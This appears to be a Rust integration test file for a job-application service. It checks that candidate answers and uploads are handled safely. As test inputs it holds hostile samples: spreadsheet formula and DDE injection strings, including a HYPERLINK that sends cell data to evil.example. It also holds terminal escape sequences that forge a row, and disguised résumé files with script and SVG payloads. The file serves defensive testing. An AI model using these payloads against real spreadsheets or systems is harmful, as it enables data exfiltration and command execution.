//! What a candidate's answers can do after the endpoint stored them, and the
//! store's promises to recruiters: formulas in the CSV export, escape sequences
//! in the terminal, résumés that are not what they claim, ids that must never
//! come back, the rate limit, and which store the commands read. The real
//! binary, `serve --production` (or `serve`) on 127.0.0.1, real requests.

mod common;
use common::form::Form;
use common::server::{Response, Server, post_form};
use common::{TestSite, site_with_apply as site_with};
use std::path::Path;
use std::process::Command;

const ROLE: &str = "/careers/apply/backend-engineer";

fn apply(server: &Server, form: &Form) -> Response {
    post_form(server.addr, ROLE, form)
}

#[track_caller]
fn status(response: Response, want: u16) -> Response {
    assert_eq!(response.status, want, "{}", response.body);
    response
}

fn exported(site: &TestSite) -> Vec<serde_json::Value> {
    let run = site.applications(&["export", "--format", "json"]).success();
    serde_json::from_str(&run.stdout).unwrap()
}

const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\tx",
    "\rx",
    "  =1+1",
];

#[test]
fn formulas_in_answers_are_text_in_the_csv_and_exact_in_json() {
    let site = site_with("");
    let server = Server::production(&site, &[]);
    for name in FORMULAS {
        let form = Form::valid().set("name", name).set("q_why", "=1+1");
        status(apply(&server, &form), 200);
    }
    let csv_path = site.path("export.csv");
    site.applications(&[
        "export",
        "--format",
        "csv",
        "-o",
        csv_path.to_str().unwrap(),
    ])
    .success();
    let raw = std::fs::read_to_string(&csv_path).unwrap();
    let mut reader = csv::Reader::from_reader(raw.as_bytes());
    let header = reader.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), FORMULAS.len());
    for (row, name) in rows.iter().zip(FORMULAS) {
        assert_eq!(&row[col("name")], format!("'{name}"), "{raw}");
        assert_eq!(&row[col("q_why")], "'=1+1");
        assert_eq!(&row[col("email")], "ada@example.com");
    }
    // Every cell is quoted, the quote mark inside it.
    assert!(raw.starts_with("\"id\",\"received_at\""), "{raw}");
    for name in FORMULAS {
        let cell = format!("\"'{}\"", name.replace('"', "\"\""));
        assert!(raw.contains(&cell), "{cell} not in {raw}");
    }
    let names: Vec<String> = exported(&site)
        .iter()
        .map(|a| a["answers"]["name"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(names, FORMULAS);
}

/// A name that would print a second row in `list` and codes a terminal obeys.
const FORGER: &str = "Mallory\x1b]0;owned\x07\x1b[2J\n99  2026-11-23T00:00:00Z  backend-engineer  Forged  forged@example.com  1\r\u{202E}gpj.exe\u{9b}";

#[test]
fn control_characters_in_answers_are_shown_escaped_and_kept_in_json() {
    let site = site_with("");
    let server = Server::production(&site, &[]);
    let letter = "Dear team,\n\x1b[31mred\rApplication   1\nBye\u{2066}";
    let form = Form::valid()
        .set("name", FORGER)
        .set("cover_letter", letter)
        .set("q_why", "why\x1b[8m hidden");
    status(apply(&server, &form), 200);
    let forbidden = |text: &str| {
        text.chars()
            .find(|&c| (c.is_control() && c != '\n') || ('\u{202A}'..='\u{2069}').contains(&c))
    };
    let list = site.applications(&["list"]).success();
    assert_eq!(forbidden(&list.stdout), None, "{:?}", list.stdout);
    assert_eq!(list.stdout.lines().count(), 2, "{}", list.stdout);
    assert!(
        list.stdout
            .contains("Mallory\\u{1b}]0;owned\\u{7}\\u{1b}[2J\\n99  "),
        "{}",
        list.stdout
    );
    let show = site.applications(&["show", "1"]).success();
    assert_eq!(forbidden(&show.stdout), None, "{:?}", show.stdout);
    assert!(
        show.stdout.contains("\\r\\u{202e}gpj.exe\\u{9b}"),
        "{}",
        show.stdout
    );
    // Our lines start with a label; every line of a multi-line answer is indented.
    let mut labels = Vec::new();
    for line in show.stdout.lines() {
        if !line.starts_with("    ") {
            labels.push(line.split([' ', ':']).next().unwrap().to_string());
        }
    }
    assert!(
        labels.iter().all(|l| !l.is_empty() && l != "99"),
        "{labels:?}"
    );
    assert!(show.stdout.contains("Cover letter:\n    Dear team,\n    \\u{1b}[31mred\\rApplication   1\n    Bye\\u{2066}\n"), "{}", show.stdout);
    let stored = &exported(&site)[0]["answers"];
    assert_eq!(stored["name"], FORGER);
    assert_eq!(stored["cover_letter"], letter);
    let listed = site.applications(&["list", "--format", "json"]).success();
    let listed: serde_json::Value = serde_json::from_str(&listed.stdout).unwrap();
    assert_eq!(listed[0]["answers"]["q_why"], "why\x1b[8m hidden");
}

fn zip_with(entries: &[(&str, &[u8])]) -> Vec<u8> {
    use std::io::Write;
    let mut out = std::io::Cursor::new(Vec::new());
    let mut w = zip::ZipWriter::new(&mut out);
    let stored =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for (name, bytes) in entries {
        w.start_file(*name, stored).unwrap();
        w.write_all(bytes).unwrap();
    }
    w.finish().unwrap();
    out.into_inner()
}

fn docx() -> Vec<u8> {
    let types = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    zip_with(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("word/document.xml", b"<w:document/>"),
    ])
}

fn odt() -> Vec<u8> {
    zip_with(&[
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("content.xml", b"<office:document-content/>"),
    ])
}

fn doc() -> Vec<u8> {
    use std::io::Write;
    let mut file = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).unwrap();
    file.create_stream("/WordDocument")
        .unwrap()
        .write_all(b"\xec\xa5 a Word 97 document")
        .unwrap();
    file.flush().unwrap();
    file.into_inner().into_inner()
}

#[test]
fn a_resume_is_judged_by_its_structure_and_stored_as_what_it_is() {
    let site = site_with("");
    let server = Server::production(&site, &[]);
    let mut html = b"<html><body><script>fetch('//evil.example')</script>".to_vec();
    html.extend(b"%PDF-1.7\n%%EOF\n</body></html>");
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><!-- %PDF-1.4 --></svg>\n%%EOF";
    let exe = [
        &b"MZ\x90\x00\x03\x00\x00\x00"[..],
        b"%PDF-1.4 This program cannot be run in DOS mode %%EOF",
    ]
    .concat();
    let no_types = zip_with(&[("word/document.xml", b"<w:document/>")]);
    let refused: [(&str, &[u8]); 4] = [
        ("cv.pdf", &html),
        ("cv.pdf", svg),
        ("cv.pdf", &exe),
        ("cv.docx", &no_types),
    ];
    for (name, bytes) in refused {
        let reply = status(
            apply(&server, &Form::valid().file(name, bytes.to_vec())),
            422,
        );
        assert!(
            reply.body.contains("Attach a PDF, DOC, DOCX or ODT file"),
            "{name}"
        );
        assert!(
            reply.body.contains("value=\"Ada Lovelace\""),
            "{name}: answers kept"
        );
        assert!(
            reply.body.contains("Twice &lt;really&gt;.</textarea>"),
            "{name}"
        );
    }
    assert!(exported(&site).is_empty());
    // Names that lie the other way: the kind stored is the one found.
    let accepted = [
        ("resume.pdf", common::form::resume_pdf(), "pdf"),
        ("resume.pdf", docx(), "docx"),
        ("cv.doc", odt(), "odt"),
        ("cv.docx", doc(), "doc"),
    ];
    for (name, bytes, _) in &accepted {
        status(
            apply(&server, &Form::valid().file(name, bytes.clone())),
            200,
        );
    }
    let stored = exported(&site);
    let saved = site.path("saved");
    for (app, (name, bytes, kind)) in stored.iter().zip(&accepted) {
        assert_eq!(app["files"][0]["kind"], *kind, "{name}");
        assert_eq!(app["files"][0]["name"], *name);
        let id = app["id"].to_string();
        site.applications(&["show", &id, "--save-files", saved.to_str().unwrap()])
            .success();
        let file = saved.join(format!("{id}-resume.{kind}"));
        assert_eq!(&std::fs::read(&file).unwrap(), bytes);
    }
}

#[cfg(unix)]
#[test]
fn saved_files_are_owner_only_under_umask_022() {
    use std::os::unix::fs::PermissionsExt;
    let site = site_with("");
    let server = Server::production(&site, &[]);
    status(apply(&server, &Form::valid()), 200);
    let target = site.path("saved/new/deeper");
    let out = Command::new("sh")
        .args(["-c", "umask 022 && exec \"$0\" \"$@\""])
        .arg(env!("CARGO_BIN_EXE_openings"))
        .args(["applications", "show", "1", "--save-files"])
        .arg(&target)
        .arg("--data")
        .arg(site.path("data"))
        .current_dir(site.root())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    for dir in ["saved", "saved/new", "saved/new/deeper"] {
        assert_eq!(mode(&site.path(dir)), 0o700, "{dir}");
    }
    assert_eq!(mode(&target.join("1-resume.pdf")), 0o600);
}

fn ids(site: &TestSite) -> Vec<i64> {
    exported(site)
        .iter()
        .map(|a| a["id"].as_i64().unwrap())
        .collect()
}

#[test]
fn ids_are_never_given_out_again() {
    let site = site_with("");
    let server = Server::production(&site, &[]);
    for _ in 0..3 {
        status(apply(&server, &Form::valid()), 200);
    }
    assert_eq!(ids(&site), [1, 2, 3]);
    site.applications(&["delete", "3", "--yes"]).success();
    status(apply(&server, &Form::valid()), 200);
    assert_eq!(ids(&site), [1, 2, 4]);
    site.applications(&["delete", "--older-than", "0h", "--yes"])
        .success();
    assert!(ids(&site).is_empty());
    status(apply(&server, &Form::valid()), 200);
    assert_eq!(ids(&site), [5]);
}

/// The first schema, as openings created it before ids were AUTOINCREMENT.
const FIRST_SCHEMA: &str = "
    CREATE TABLE applications (id INTEGER PRIMARY KEY, posting_slug TEXT NOT NULL,
        posting_title TEXT NOT NULL, received_at INTEGER NOT NULL, answers TEXT NOT NULL,
        consent TEXT NOT NULL, client_hash TEXT NOT NULL, user_agent TEXT);
    CREATE INDEX applications_by_time ON applications(received_at);
    CREATE INDEX applications_by_posting ON applications(posting_slug, received_at);
    CREATE TABLE files (id INTEGER PRIMARY KEY,
        application_id INTEGER NOT NULL REFERENCES applications(id) ON DELETE CASCADE,
        field TEXT NOT NULL, name TEXT NOT NULL, kind TEXT NOT NULL, size INTEGER NOT NULL,
        blake3 TEXT NOT NULL, stored_name TEXT NOT NULL UNIQUE);
    CREATE INDEX files_by_application ON files(application_id);
    CREATE TABLE outbox (id INTEGER PRIMARY KEY,
        application_id INTEGER NOT NULL REFERENCES applications(id) ON DELETE CASCADE,
        payload TEXT NOT NULL, attempts INTEGER NOT NULL DEFAULT 0, next_attempt_at INTEGER,
        last_error TEXT);
    CREATE INDEX outbox_due ON outbox(next_attempt_at);
    CREATE TABLE settings (key TEXT PRIMARY KEY, value TEXT NOT NULL);
    INSERT INTO applications VALUES
        (12, 'backend-engineer', 'Backend Engineer', 1790000000000,
         '{\"name\":\"Grace Hopper\",\"email\":\"grace@example.com\"}', 'ok', 'h1', 'ua'),
        (41, 'backend-engineer', 'Backend Engineer', 1790000001000,
         '{\"name\":\"Alan Turing\",\"email\":\"alan@example.com\"}', 'ok', 'h2', NULL);
    INSERT INTO files VALUES (1, 41, 'resume', 'cv.pdf', 'pdf', 14, 'abc', 'storedname0000000000000000000000');
    PRAGMA user_version = 1;";

#[cfg(unix)]
#[test]
fn a_database_of_the_first_schema_is_migrated_with_its_data() {
    use std::os::unix::fs::PermissionsExt;
    let site = site_with("");
    let data = site.path("data");
    std::fs::create_dir(&data).unwrap();
    std::fs::set_permissions(&data, std::fs::Permissions::from_mode(0o700)).unwrap();
    let conn = rusqlite::Connection::open(data.join("applications.db")).unwrap();
    conn.execute_batch(FIRST_SCHEMA).unwrap();
    drop(conn);
    let files = data.join("applications-files");
    std::fs::create_dir(&files).unwrap();
    std::fs::write(
        files.join("storedname0000000000000000000000"),
        b"%PDF-1.4 %%EOF",
    )
    .unwrap();
    let before = exported(&site);
    assert_eq!(ids(&site), [12, 41]);
    assert_eq!(before[0]["answers"]["name"], "Grace Hopper");
    assert_eq!(before[1]["files"][0]["name"], "cv.pdf");
    // Stored before languages were recorded: unknown, `-` in the table.
    assert_eq!(before[0]["language"], "");
    let table = site.applications(&["list"]).success();
    assert!(
        table
            .stdout
            .contains("backend-engineer  -         Grace Hopper"),
        "{}",
        table.stdout
    );
    let saved = site.path("saved");
    site.applications(&["show", "41", "--save-files", saved.to_str().unwrap()])
        .success();
    assert_eq!(
        std::fs::read(saved.join("41-resume.pdf")).unwrap(),
        b"%PDF-1.4 %%EOF"
    );
    let server = Server::production(&site, &[]);
    status(apply(&server, &Form::valid()), 200);
    assert_eq!(ids(&site), [12, 41, 42]);
    assert_eq!(exported(&site)[2]["language"], "en");
    site.applications(&["delete", "41", "--yes"]).success();
    site.applications(&["delete", "42", "--yes"]).success();
    status(apply(&server, &Form::valid()), 200);
    assert_eq!(ids(&site), [12, 43]);
}

#[test]
fn refused_submissions_do_not_use_up_the_rate_limit() {
    let site = site_with("rate_limit = 2");
    let server = Server::production(&site, &[]);
    let bad = Form::valid().set("email", "ada-at-example");
    for _ in 0..15 {
        status(apply(&server, &bad), 422);
    }
    status(apply(&server, &Form::valid()), 200);
    // Refused ones have their own allowance, 10 x rate_limit a minute: 20
    // (one more comes back every 3 s, so a slow machine may see 21 or 22).
    for _ in 0..5 {
        status(apply(&server, &bad), 422);
    }
    let flood = (0..5)
        .map(|_| apply(&server, &bad))
        .find(|r| r.status != 422)
        .expect("a flood of refused submissions is stopped");
    let flood = status(flood, 429);
    let wait: u64 = flood.header("retry-after").unwrap().parse().unwrap();
    assert!((1..=60).contains(&wait), "{wait}");
    assert!(
        flood.body.contains("value=\"ada-at-example\""),
        "answers kept"
    );
    // Accepted applications have theirs: one more, then wait.
    status(apply(&server, &Form::valid()), 200);
    status(apply(&server, &Form::valid()), 429);
    assert_eq!(ids(&site).len(), 2);
}

#[test]
fn after_the_dev_server_the_commands_read_its_store_and_say_so() {
    let site = site_with("");
    let dev = Server::start(site.root(), &[]);
    status(apply(&dev, &Form::valid()), 200);
    let run = site
        .run(&["applications", "list", "--format", "json"])
        .success();
    let listed: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(listed[0]["answers"]["email"], "ada@example.com");
    let notes: Vec<&str> = run.stderr.lines().collect();
    assert_eq!(notes.len(), 1, "{}", run.stderr);
    assert!(
        notes[0].contains("reading the dev server's"),
        "{}",
        run.stderr
    );
    assert!(notes[0].contains(".openings/dev.db"), "{}", run.stderr);
    assert!(notes[0].contains("--dev"), "{}", run.stderr);
    // Chosen explicitly, nothing to say.
    let run = site.run(&["applications", "list", "--dev"]).success();
    assert!(run.stderr.is_empty(), "{}", run.stderr);
    assert!(run.stdout.contains("Ada Lovelace"));
    // With a folder that has neither, still the clear error.
    site.run(&["applications", "list", "--data", "elsewhere"])
        .failure(1)
        .stderr_has("no applications database");
}
